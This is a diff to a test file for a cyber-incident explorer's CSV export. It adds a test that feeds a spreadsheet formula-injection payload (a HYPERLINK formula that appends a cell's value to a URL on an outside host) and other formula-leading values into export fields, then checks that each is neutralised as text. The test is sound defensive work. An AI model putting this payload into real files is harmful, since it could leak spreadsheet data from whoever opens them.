@@ -47,15 +47,15 @@ test('the CSV download writes the columns the explorer reads, lists joined as it
   const facets = { source: 'bundled', version: '1.0.0', total: 126, scale: LADDER };
   const text = csvOf([record], { facets, reading: FRANCE, filterText: 'initiators=PRK', link: 'https://x.example/#v', now: new Date('2026-01-02T03:04:05Z') });
   const lines = text.split('\r\n');
-  const header = lines.find((l) => !l.startsWith('#'));
+  const header = lines.find((l) => !l.startsWith('"#'));
   assert.equal(header, COLUMNS.map((c) => c.name).join(','));
   assert.ok(text.includes('PRK,USA;KOR,'), text);
   assert.ok(text.includes('"Comma, ""quoted"""'), 'quotes are doubled inside a quoted cell');
   assert.ok(text.includes('https://a.example/1 https://b.example/2'));
-  assert.ok(lines.includes('# Severity: the 0-10 escalation ladder; thresholds in the reading of France: use of force level 5 or above '
-    + 'with physical damage or worse, or level 7 or above, armed attack level 8 or above'), lines.join('\n'));
+  assert.ok(lines.includes('"# Severity: the 0-10 escalation ladder; thresholds in the reading of France: use of force level 5 or above '
+    + 'with physical damage or worse, or level 7 or above, armed attack level 8 or above"'), lines.join('\n'));
   const other = csvOf([], { facets: { ...facets, source: 'eurepoc', scale: EUREPOC }, filterText: '', link: 'l' });
-  assert.ok(other.includes('# Severity: EuRepoC’s weighted intensity\r\n'), 'no thresholds on a scale without them');
+  assert.ok(other.includes('"# Severity: EuRepoC’s weighted intensity"\r\n'), 'no thresholds on a scale without them');
 });
 
 test('each view says what its marks are, with the thresholds of the reading in use', () => {
@@ -136,4 +136,28 @@ test('the element reads its presentational attributes, naming a bad one and what
   assert.match(readHeight('50').error, /200 to 2000/);
   assert.equal(themeError(' Dark '), null);
   assert.equal(themeError('neon'), 'Attribute theme="neon" is not one of: light, dark, auto.');
+});
+
+test('no CSV download carries a live formula: hostile filters and cells, read with a real CSV parser', async () => {
+  const { execFileSync } = await import('node:child_process');
+  const payload = '=HYPERLINK("http://host/x?"&A9,"Click for sources")';
+  const record = {
+    id: '@id', name: payload, start: '2014-11-24', end: null, initiator: 'PRK', targets: ['USA'], targetType: null,
+    method: null, objective: null, severity: 5, effects: 'data', rationale: '+1 level', attributedBy: '-cmd', attributionDate: null,
+    description: '\tTabbed', sources: ['https://a.example/1'],
+  };
+  const facets = { source: 'a,"=sheet"', version: '1', total: 1, scale: LADDER };
+  const text = csvOf([record], { facets, reading: FRANCE, filterText: `search=zz,"${payload}"`, link: 'https://x.example/#v' });
+  const rows = JSON.parse(execFileSync('python3', ['-c',
+    'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], { input: text }));
+  const cells = rows.flat();
+  assert.ok(cells.length > 20);
+  for (const c of cells) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `a cell starts a formula: ${JSON.stringify(c)}`);
+  // The preamble is one cell per line, whatever its text holds.
+  for (const row of rows.filter((r) => r[0].startsWith('#'))) assert.equal(row.length, 1, JSON.stringify(row));
+  assert.ok(cells.includes(`'${payload}`), 'the payload is kept, as text');
+  const comparison = compareCsv([{ id: 'x', name: payload, useOfForce: null, armedAttack: null }], [FRANCE]);
+  const parsed = JSON.parse(execFileSync('python3', ['-c',
+    'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], { input: comparison }));
+  for (const c of parsed.flat()) assert.doesNotMatch(c, /^[=+\-@\t\r]/, c);
 });
